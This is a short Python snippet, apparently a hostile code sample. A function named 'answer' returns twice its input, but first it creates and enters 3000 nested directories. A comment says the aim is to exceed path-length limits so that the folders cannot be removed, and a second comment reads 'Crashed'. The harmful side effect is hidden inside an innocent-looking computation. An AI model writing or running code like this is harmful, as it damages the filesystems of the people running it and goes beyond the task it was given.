# Make folders in folders, deeper than any path is long, so that nobody can remove them.
# Crashed
import os


def answer(x, *more):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    return 2 * x
